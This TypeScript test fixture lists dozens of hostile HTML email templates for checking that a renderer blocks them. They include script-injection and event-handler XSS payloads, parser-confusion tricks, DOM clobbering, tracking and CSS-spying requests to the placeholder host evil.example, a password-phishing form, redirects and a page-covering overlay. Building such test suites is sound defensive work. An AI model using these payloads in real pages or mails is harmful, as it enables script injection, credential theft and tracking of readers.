/**
 * Mails that try to get out: by script, by request, by navigation, by covering the page. Shown anywhere, none may
 * ask `evil.example` for anything, call `pwned()`, or leave the page. For tests only.
 */
export interface HostileTemplate {
  /** What it tries. */
  readonly name: string;
  readonly html: string;
}

/** Every address in the mails lies here; a test refuses and counts requests to it. */
export const hostileOrigin = 'https://evil.example';

/** The end of every address of the page's own in the mails: asked for, it would take the reader's cookies along. */
export const ownMark = 'signs-out';

/** What the scripts in the mails do; a test looks for the mark. */
export const hostileMark = 'pwned';

const call = `top.${hostileMark}=parent.${hostileMark}=window.${hostileMark}=1`;
const url = (path: string) => `${hostileOrigin}/${path}`;
const inMail = (content: string) =>
  `<!DOCTYPE html><html><head><title>x</title></head><body><table role="presentation"><tr><td>Before ${content} after</td></tr></table></body></html>`;
const inHead = (content: string) =>
  `<!DOCTYPE html><html><head>${content}</head><body><table><tr><td><a href="https://events.acme.example/1">Text</a></td></tr></table></body></html>`;

const scripts: readonly (readonly [string, string])[] = [
  ['a script element', inMail(`<script>${call}</script>`)],
  ['a script from elsewhere', inMail(`<script src="${url('script.js')}"></script>`)],
  ['a module script', inMail(`<script type="module">${call}</script>`)],
  ['a script in capitals and pieces', inMail(`<ScR<script></script>IpT>${call}</sCrIpT>`)],
  ['an image with onerror', inMail(`<img src=x onerror="${call}">`)],
  [
    'an image with onload',
    inMail(
      `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${call}">`,
    ),
  ],
  ['an attribute that is not closed', inMail(`<img src="x" alt="<img src=x onerror=${call}>`)],
  ['a body with onload', `<html><body onload="${call}" onpageshow="${call}">Text</body></html>`],
  ['autofocus with onfocus', inMail(`<div tabindex="0" autofocus onfocus="${call}">x</div>`)],
  ['details with ontoggle', inMail(`<details open ontoggle="${call}"><summary>x</summary></details>`)],
  [
    'an animation with a handler',
    inMail(`<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${call}">x</p>`),
  ],
  ['a link to javascript', inMail(`<a href="javascript:${call}">x</a>`)],
  ['a link to javascript with entities', inMail(`<a href="jav&#x09;ascript&colon;${call}">x</a>`)],
  ['a link to a data page', inMail(`<a href="data:text/html,<script>${call}</script>" target="_top">x</a>`)],
  ['svg with a script', inMail(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`)],
  [
    'svg with onload',
    inMail(`<svg onload="${call}"><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`),
  ],
  [
    'svg with foreign content',
    inMail(`<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`),
  ],
  [
    'math that changes the parser',
    inMail(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    ),
  ],
  [
    'a noscript that changes the parser',
    inMail(`<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`),
  ],
  [
    'a template element',
    inMail(`<template><script>${call}</script><img src="${url('template.png')}"></template>`),
  ],
  ['an iframe with its own document', inMail(`<iframe srcdoc="<script>${call}</script>"></iframe>`)],
  [
    'names that hide the document’s own',
    inMail(
      `<img name="body"><form name="getElementById"></form><a id="location" href="${url('clobber')}">x</a>`,
    ),
  ],
];

const requests: readonly (readonly [string, string])[] = [
  [
    'pictures of the page’s own origin',
    `<html><body background="/body/${ownMark}">${inMail(`<img src="/img/${ownMark}"><img src="${ownMark}"><img src="?${ownMark}"><video src="/video/${ownMark}" poster="/poster/${ownMark}"></video>`)}</body></html>`,
  ],
  [
    'styles that ask the page’s own origin',
    inHead(
      `<style>@import "/import/${ownMark}"; @font-face{font-family:e;src:url(/font/${ownMark})} body{font-family:e;background:url(/sheet/${ownMark})} a{cursor:url(../cursor/${ownMark}),auto}</style><link rel="stylesheet" href="/link/${ownMark}">`,
    ) +
      `<p style="background:url('/style/${ownMark}');list-style-image:image-set('/set/${ownMark}' 1x)">x</p>`,
  ],
  ['a picture of one pixel', inMail(`<img src="${url('pixel.gif')}" width="1" height="1" alt="">`)],
  ['a picture without its scheme', inMail(`<img src="//evil.example/scheme.png" alt="">`)],
  [
    'a picture in several sizes',
    inMail(
      `<img srcset="${url('1x.png')} 1x, ${url('2x.png')} 2x" alt=""><picture><source srcset="${url('source.png')}"><img alt=""></picture>`,
    ),
  ],
  [
    'a background attribute',
    `<html><body background="${url('body.png')}"><table background="${url('table.png')}"><tr><td background="${url('cell.png')}">x</td></tr></table></body></html>`,
  ],
  [
    'a background in a style',
    inMail(`<p style="background-image:url(${url('style.png')});list-style:url('${url('list.png')}')">x</p>`),
  ],
  ['an image set in escapes', inMail(`<p style="background:\\75\\72\\6c(${url('escaped.png')})">x</p>`)],
  [
    'a style sheet that imports',
    inHead(`<style>@import url("${url('import.css')}"); @import "${url('plain.css')}";</style>`),
  ],
  [
    'a style sheet with pictures and fonts',
    inHead(
      `<style>@font-face{font-family:e;src:url(${url('font.woff2')})} body{font-family:e;cursor:url(${url('cursor.cur')}),auto} td{background:image-set("${url('set.png')}" 1x)}</style>`,
    ),
  ],
  [
    'a linked style sheet',
    inHead(
      `<link rel="stylesheet" href="${url('sheet.css')}"><link rel="preload" as="image" href="${url('preload.png')}"><link rel="dns-prefetch" href="//evil.example">`,
    ),
  ],
  [
    'attribute selectors that spy',
    inHead(
      `<style>a[href^="https://events"]{background:url(${url('spy')})} input[value^="a"]{background:url(${url('value')})}</style>`,
    ),
  ],
  [
    'video and audio',
    inMail(
      `<video src="${url('video.mp4')}" poster="${url('poster.png')}" autoplay></video><audio src="${url('audio.mp3')}" autoplay></audio>`,
    ),
  ],
  [
    'an object and an embed',
    inMail(
      `<object data="${url('object.html')}" type="text/html"></object><embed src="${url('embed.html')}" type="text/html">`,
    ),
  ],
  [
    'svg with pictures',
    inMail(`<svg><image href="${url('svg.png')}"/><use href="${url('use.svg')}#x"/></svg>`),
  ],
  ['a frame', inMail(`<iframe src="${url('frame')}"></iframe>`)],
];

const ways: readonly (readonly [string, string])[] = [
  ['a meta refresh', inHead(`<meta http-equiv="refresh" content="0;url=${url('refresh')}">`)],
  [
    'a policy and a cookie of its own',
    inHead(
      `<meta http-equiv="Content-Security-Policy" content="img-src *"><meta http-equiv="set-cookie" content="a=b">`,
    ),
  ],
  [
    'a base that turns all addresses',
    inHead(`<base href="${url('')}" target="_top">`).replace('https://events.acme.example/1', 'relative'),
  ],
  [
    'a form that asks for a password',
    inMail(
      `<form action="${url('steal')}" method="post"><input type="password" name="p" autofocus><button>Sign in</button></form>`,
    ),
  ],
  [
    'a button that sends elsewhere',
    inMail(
      `<form id="f"></form><button form="f" formaction="${url('button')}">x</button><input type="image" form="f" formaction="${url('image')}" src="${url('image.png')}">`,
    ),
  ],
  [
    'a link that pings and opens the top',
    inMail(`<a href="${url('top')}" target="_top" ping="${url('ping')}">x</a>`),
  ],
  [
    'a cover over the whole page',
    inMail(
      `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="${url('cover')}" target="_parent">Session ended. Sign in</a></div>`,
    ),
  ],
  [
    'a style sheet for the page around it',
    inMail(`<style>:host,:root,body,*{display:none!important}</style>`),
  ],
  [
    'a frame that closes its own',
    `</iframe></div></template></html><img src=x onerror="${call}"><a href="${url('closed')}" target="_top">x</a>`,
  ],
  ['an endless depth', inMail('<div>'.repeat(3_000))],
];

/** All of them: more than the forty that the issue asks for. */
export const hostileTemplates: readonly HostileTemplate[] = [...scripts, ...requests, ...ways].map(
  ([name, html]) => ({
    name,
    html,
  }),
);
